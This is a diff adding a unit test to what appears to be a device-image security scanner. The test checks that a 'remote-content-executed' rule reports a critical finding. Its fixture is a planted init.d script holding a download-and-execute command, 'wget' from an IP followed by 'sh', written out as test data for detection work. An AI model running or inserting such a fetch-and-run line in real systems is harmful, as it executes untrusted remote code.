@@ -22,6 +22,21 @@ class CommandLine(unittest.TestCase):
     def tearDown(self):
         self.folder.cleanup()
 
+    def test_one_rule_is_tried_on_an_input_and_on_a_saved_result(self):
+        device = self.root("wget -O /tmp/a http://203.0.113.9/a && sh /tmp/a\n")
+        rule = pathlib.Path(__file__).resolve().parent.parent / "rules" / "remote-content-executed.yaml"
+        saved = self.path / "saved.json"
+        run("scan", device, "-q", "-o", saved)
+        for place in (device, saved):
+            tried = run("rules", "try", rule, place)
+            self.assertEqual(tried.returncode, 1, tried.stderr)
+            self.assertIn(b"critical", tried.stdout)
+            self.assertIn(b"1 finding\n", tried.stdout)
+        other = rule.with_name("login-key-in-image.yaml")
+        self.assertEqual(run("rules", "try", other, saved).returncode, 0)
+        self.assertEqual(run("rules", "try", self.path / "missing.yaml", saved).returncode, 3)
+        self.assertIn(b"Cries wolf", run("rules", "reference").stdout)
+
     def root(self, script):
         place = self.path / "device" / "etc" / "init.d"
         place.mkdir(parents=True, exist_ok=True)
